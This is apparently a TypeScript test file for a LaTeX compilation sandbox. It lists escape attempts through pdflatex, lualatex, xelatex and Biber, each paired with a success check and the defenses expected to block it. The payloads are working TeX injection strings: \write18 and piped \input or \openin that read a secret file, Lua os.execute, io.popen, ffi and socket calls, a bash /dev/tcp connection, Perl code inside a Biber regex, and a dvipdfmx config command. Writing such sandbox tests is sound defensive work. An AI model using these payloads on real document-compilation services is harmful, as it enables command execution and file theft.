// Attacks that run programs or reach the network.
import { type Attack, lua, type Stage, tellsWord } from './attack.ts'

const steal = ({ outside }: Stage) => `cat ${outside}/secret.txt`
const common: Pick<Attack, 'engine' | 'shellEscape' | 'stoppedBy' | 'succeeded'> = {
  engine: 'pdflatex',
  shellEscape: true,
  stoppedBy: ['tex', 'namespaces'],
  succeeded: tellsWord,
}
const connects: Attack['succeeded'] = ({ connections }) => connections > 0

export const running: Attack[] = [
  { ...common, name: '\\input{|"…"}', source: (stage) => `\\input{|"${steal(stage)}"}` },
  {
    ...common,
    name: '\\openin of a command',
    source: (stage) => `\\newread\\f \\openin\\f="|${steal(stage)}" \\read\\f to\\x \\typeout{\\x}`,
  },
  {
    ...common,
    name: '\\openout into a command',
    source: (stage) =>
      `\\newwrite\\f \\immediate\\openout\\f="|cat > ${stage.drop}/stolen" \\immediate\\write\\f{here}\\immediate\\closeout\\f x`,
    succeeded: ({ dropped }) => dropped.includes('stolen'),
    // TeX puts the output's folder before the name, and the bar is no longer its first sign.
    stoppedBy: [],
  },
  {
    ...common,
    name: '\\write18',
    source: (stage) => `\\write18{${steal(stage)} > ${stage.drop}/stolen}x`,
    succeeded: ({ dropped }) => dropped.includes('stolen'),
  },
  {
    ...common,
    name: '\\immediate\\write18',
    source: (stage) => `\\immediate\\write18{${steal(stage)} > ${stage.drop}/stolen}x`,
    succeeded: ({ dropped }) => dropped.includes('stolen'),
  },
  {
    ...common,
    name: 'settings of its own (texmf.cnf) and \\write18',
    files: () => ({ 'texmf.cnf': 'shell_escape = t\nopenin_any = a\nopenout_any = a\n' }),
    source: (stage) => `\\immediate\\write18{${steal(stage)} > ${stage.drop}/stolen}x`,
    succeeded: ({ dropped }) => dropped.includes('stolen'),
  },
  {
    ...common,
    engine: 'lualatex',
    name: 'Lua: os.execute',
    source: (stage) => lua(`os.execute('${steal(stage)} > ${stage.drop}/stolen')`),
    succeeded: ({ dropped }) => dropped.includes('stolen'),
  },
  {
    ...common,
    engine: 'lualatex',
    name: 'Lua: os.spawn',
    source: (stage) => lua(`os.spawn({'sh', '-c', '${steal(stage)} > ${stage.drop}/stolen'})`),
    succeeded: ({ dropped }) => dropped.includes('stolen'),
  },
  {
    ...common,
    engine: 'lualatex',
    name: 'Lua: io.popen',
    source: (stage) => lua(`local p = io.popen('${steal(stage)}') if p then texio.write_nl('log', p:read('*a')) end`),
  },
  {
    ...common,
    engine: 'lualatex',
    name: 'Lua: ffi calls the C library',
    source: (stage) =>
      lua(`local ffi = require('ffi')
        ffi.cdef('void *fopen(const char *p, const char *m); char *fgets(char *s, int n, void *f);')
        local room = ffi.new('char[200]')
        ffi.C.fgets(room, 200, ffi.C.fopen('${stage.outside}/secret.txt', 'r'))
        texio.write_nl('log', ffi.string(room))`),
  },
  {
    ...common,
    engine: 'lualatex',
    name: 'Lua: package.loadlib',
    source: () => lua(`texio.write_nl('log', 'LIB' .. tostring((package.loadlib('libc.so.6', '*'))))`),
    succeeded: ({ text }) => text.includes('LIBtrue'),
    // A library of the room has nothing to take from outside it.
    stoppedBy: ['tex'],
  },
  {
    ...common,
    engine: 'lualatex',
    name: 'Lua: socket',
    source: (stage) =>
      lua(`local s = require('socket') local c = s.tcp() c:settimeout(1) c:connect('127.0.0.1', ${stage.port})`),
    succeeded: connects,
  },
  {
    ...common,
    name: 'a connection by a program',
    source: (stage) => `\\immediate\\write18{bash -c 'exec 3<>/dev/tcp/127.0.0.1/${stage.port}'}x`,
    succeeded: connects,
  },
  {
    ...common,
    name: 'Biber: a bibliography from the network',
    source: (stage) =>
      `\\documentclass{article}\\usepackage[backend=biber]{biblatex}
       \\addbibresource[location=remote]{http://127.0.0.1:${stage.port}/refs.bib}
       \\begin{document}\\nocite{*}\\cite{stolen}\\printbibliography\\end{document}`,
    succeeded: connects,
  },
  {
    ...common,
    name: 'Biber: Perl inside a pattern',
    files: () => ({ 'refs.bib': '@misc{stolen, author={A}, title={T}, year={2001}}\n' }),
    source: (stage) =>
      `\\documentclass{article}\\usepackage[backend=biber]{biblatex}\\addbibresource{refs.bib}
       \\DeclareSourcemap{\\maps{\\map{\\step[fieldsource=title, match=\\regexp{(?{system('${steal(stage)} > ${stage.drop}/stolen')})}, replace=x]}}}
       \\begin{document}\\nocite{*}\\cite{stolen}\\printbibliography\\end{document}`,
    succeeded: ({ dropped }) => dropped.includes('stolen'),
    // Perl takes no code out of a pattern that it was given as text.
    stoppedBy: [],
  },
  {
    ...common,
    engine: 'xelatex',
    name: 'xdvipdfmx: a command for pictures of its own',
    files: () => ({ 'a.eps': '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n' }),
    source: (stage) =>
      `\\special{dvipdfmx:config D "${steal(stage)} > ${stage.drop}/stolen"}x\\special{PSfile="a.eps" llx=0 lly=0 urx=10 ury=10}`,
    succeeded: ({ dropped }) => dropped.includes('stolen'),
    stoppedBy: [],
  },
  {
    ...common,
    engine: 'lualatex',
    name: 'many processes (60, bounded)',
    source: () =>
      lua(`local p = io.popen('for i in $(seq 60); do sleep 1 >/dev/null & done; echo ALL-SIXTY')
        if p then texio.write_nl('log', p:read('*a')) end`),
    succeeded: ({ text }) => text.includes('ALL-SIXTY'),
    stoppedBy: ['tex', 'limits'],
  },
]
